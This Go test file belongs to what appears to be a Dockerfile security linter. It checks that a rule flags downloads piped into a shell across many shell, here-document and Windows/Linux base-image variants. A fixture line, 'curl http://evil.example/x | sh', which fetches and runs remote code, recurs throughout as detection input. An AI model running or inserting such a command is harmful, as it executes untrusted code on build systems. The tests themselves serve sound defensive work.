package dockerfile

import (
	"context"
	"slices"
	"strings"
	"testing"

	df "github.com/portcullis-ci/portcullis/internal/dockerfile"
	"github.com/portcullis-ci/portcullis/internal/finding"
)

const piped = "RUN curl http://evil.example/x | sh\n"

// readsPiped lints a Dockerfile and reports whether the download that is piped
// into a shell was seen, and how many steps no rule reads.
func readsPiped(t *testing.T, text string, opts Options) (seen bool, unread int) {
	t.Helper()
	result := Lint(context.Background(), []File{{Path: "Dockerfile", Content: []byte(text)}}, opts)
	for _, f := range result.Failures {
		t.Errorf("%q: %+v", text, f)
	}
	return slices.ContainsFunc(result.Findings, func(f finding.Finding) bool { return f.RuleID == "PC-DF015" }), result.Unread["Dockerfile"]
}

func TestNoTextOfAFileHidesAScriptOfLinux(t *testing.T) {
	const debian = "FROM debian@sha256:4abf773f2a570e6873259c4e3ba16de6c6268fb571fd46ec80be7c67822823b3\n"
	for name, text := range map[string]string{
		"an escape character of Windows":           "# escape=`\n" + debian + piped,
		"a path of Windows in a comment":           "ARG B\nFROM $B\n# C:\\app\n" + piped,
		"a path of Windows in the step":            "ARG B\nFROM $B\nRUN curl http://evil.example/x | sh; : C:\\\\app\n",
		"a base that is called windows":            "FROM corp/windows-debian@sha256:4abf773f2a570e6873259c4e3ba16de6c6268fb571fd46ec80be7c67822823b3\n" + piped,
		"a tag of Windows beside a digest":         "FROM mcr.microsoft.com/dotnet/sdk:8.0-nanoserver@sha256:4abf773f2a570e6873259c4e3ba16de6c6268fb571fd46ec80be7c67822823b3\n" + piped,
		"a tag of Windows on another's image":      "FROM corp/app:nanoserver\n" + piped,
		"env":                                      debian + "SHELL [\"/usr/bin/env\", \"bash\", \"-c\"]\n" + piped,
		"env with options and variables":           debian + "SHELL [\"/usr/bin/env\", \"-i\", \"-u\", \"X\", \"A=b\", \"bash\", \"-c\"]\n" + piped,
		"env that splits":                          debian + "SHELL [\"/usr/bin/env\", \"-S\", \"bash -c\"]\n" + piped,
		"env that splits in one word":              debian + "SHELL [\"/usr/bin/env\", \"--split-string=bash -c\"]\n" + piped,
		"busybox":                                  debian + "SHELL [\"/bin/busybox\", \"sh\", \"-c\"]\n" + piped,
		"conda":                                    debian + "SHELL [\"conda\", \"run\", \"-n\", \"x\", \"/bin/bash\", \"-c\"]\n" + piped,
		"a shell of Windows that was taken back":   "# escape=`\n" + debian + "SHELL [\"powershell\", \"-c\"]\nRUN a\nSHELL [\"/bin/sh\", \"-c\"]\n" + piped,
		"a script of the shell's own":              debian + "SHELL [\"/bin/sh\", \"-c\", \"curl http://evil.example/x | sh\"]\nRUN true\n",
		"a first line that names no interpreter":   debian + "RUN #!/usr/bin/python3 <<EOF\ncurl http://evil.example/x | sh\nEOF\n",
		"a first line that names a shell by env":   debian + "RUN <<EOF\n#!/usr/bin/env -S bash -e\ncurl http://evil.example/x | sh\nEOF\n",
		"a first line that names a shell of a box": debian + "RUN <<EOF\n#!/bin/busybox sh\ncurl http://evil.example/x | sh\nEOF\n",
	} {
		if seen, _ := readsPiped(t, text, Options{}); !seen {
			t.Errorf("%s: not seen", name)
		}
	}
}

func TestStepsInShellsThatNoRuleReadsAreCounted(t *testing.T) {
	const debian = "FROM debian:12\n"
	for name, c := range map[string]struct {
		text   string
		unread int
	}{
		"sh":                            {debian + "RUN a\nRUN [\"python\", \"-c\", \"b\"]\n", 0},
		"Python":                        {debian + "SHELL [\"python3\", \"-c\"]\nRUN a\nRUN b\nSHELL [\"sh\", \"-c\"]\nRUN c\n", 2},
		"Python behind env":             {debian + "SHELL [\"/usr/bin/env\", \"python3\", \"-c\"]\nRUN a\n", 1},
		"a here-document for Python":    {debian + "RUN <<EOF\n#!/usr/bin/env python3\nimport os\nEOF\n", 1},
		"fish":                          {debian + "SHELL [\"fish\", \"-c\"]\nRUN a\n", 1},
		"Microsoft's Windows":           {"FROM mcr.microsoft.com/windows/servercore:ltsc2022@sha256:4abf773f2a570e6873259c4e3ba16de6c6268fb571fd46ec80be7c67822823b3\n" + piped, 1},
		"Windows by a tag of Microsoft": {"FROM mcr.microsoft.com/dotnet/sdk:8.0-windowsservercore-ltsc2022\n" + piped, 1},
		"Linux by a tag of Microsoft":   {"FROM mcr.microsoft.com/dotnet/sdk:8.0-alpine\nRUN a\n", 0},
		"Windows by its platform":       {"FROM --platform=windows/amd64 corp/app:1\n" + piped, 1},
		"a script that only cmd reads":  {"FROM golang:1.22-windowsservercore\nRUN if exist a (del a\n", 1},
		"the same on Linux":             {"FROM golang:1.22\nRUN if exist a (del a\n", 0},
		"PowerShell":                    {"# escape=`\nFROM corp/app:1\nSHELL [\"powershell.exe\", \"-Command\"]\nRUN if ($a) { b }\n", 1},
		"a comment":                     {debian + "# hadolint shell=powershell\nRUN a\n", 1},
	} {
		if _, unread := readsPiped(t, c.text, Options{}); unread != c.unread {
			t.Errorf("%s: %d steps, want %d", name, unread, c.unread)
		}
	}
}

func TestWhereNoCommentCountsNoneNamesAShell(t *testing.T) {
	const text = "FROM debian:12\n# hadolint shell=powershell\n" + piped
	if seen, unread := readsPiped(t, text, Options{}); seen || unread != 1 {
		t.Errorf("by default: seen %t, unread %d", seen, unread)
	}
	if seen, unread := readsPiped(t, text, Options{Inline: InlineIgnores{Disallow: true}}); !seen || unread != 0 {
		t.Errorf("forbidden: seen %t, unread %d", seen, unread)
	}
}

func TestShellsAreFoundAmongTheWordsThatStartThem(t *testing.T) {
	for words, want := range map[string]string{
		`/bin/sh -c`: "sh", `/bin/bash -eo pipefail -c`: "bash", `C:\Windows\System32\cmd.exe /S /C`: "cmd", `powershell -Command`: "powershell",
		`/usr/bin/env A=b zsh -c`: "zsh", `env -i fish -c`: "fish", `python -c`: "python", `/lib/ld-linux.so.2 /bin/dash -c`: "dash",
	} {
		if got := shellAmong(strings.Fields(words)); got != want {
			t.Errorf("%s: %q, want %q", words, got, want)
		}
	}
}

func TestAShellHoldsAScriptOnlyBehindItsOptions(t *testing.T) {
	for text, want := range map[string]bool{
		`SHELL ["/bin/sh", "-c"]`:                           false,
		`SHELL ["/bin/bash", "-eo", "pipefail", "-c"]`:      false,
		`SHELL ["/bin/bash", "-c", "-o", "pipefail"]`:       false,
		`SHELL ["/bin/bash", "-eco", "pipefail"]`:           false,
		`SHELL ["/bin/bash", "--login", "-c"]`:              false,
		`SHELL ["conda", "run", "-n", "x", "bash", "-c"]`:   false,
		`SHELL ["cmd", "/S", "/C"]`:                         false,
		`SHELL ["python", "-c", "print(1)"]`:                false,
		`SHELL ["/bin/sh", "-c", "a; eval \"$0\""]`:         true,
		`SHELL ["/bin/bash", "-ec", "-o", "pipefail", "a"]`: true,
		`SHELL ["/usr/bin/env", "bash", "-c", "a"]`:         true,
	} {
		f := df.Parse("Dockerfile", []byte("FROM debian:12\n"+text+"\n"), df.Options{})
		if got := holdsScript(f.Instructions[1]); got != want {
			t.Errorf("%s: %t", text, got)
		}
	}
}

// Windows is what the rules about users and the form of commands spare.
func TestWindowsIsKnownByTheBaseOrByItsShell(t *testing.T) {
	for text, want := range map[string]bool{
		"FROM debian:12\nUSER a\n":                                         false,
		"# escape=`\nFROM corp/app:1\nUSER a\n":                            false,
		"# escape=`\nFROM corp/app:1\nSHELL [\"powershell\"]\nUSER a\n":    true,
		"FROM corp/app:1\nSHELL [\"powershell\"]\nUSER a\n":                false,
		"FROM golang:1.22-nanoserver\nUSER a\n":                            true,
		"FROM corp/windows-debian:1\nUSER a\n":                             false,
		"FROM mcr.microsoft.com/windows:1 AS b\nFROM b\nUSER a\n":          true,
		"FROM --platform=windows/amd64 corp/app:1\nUSER a\n":               true,
		"FROM --platform=linux/amd64 mcr.microsoft.com/dotnet:8\nUSER a\n": false,
	} {
		f := df.Parse("Dockerfile", []byte(text), df.Options{})
		if got := windows(f.Instructions[len(f.Instructions)-1]); got != want {
			t.Errorf("%q: %t", text, got)
		}
	}
}
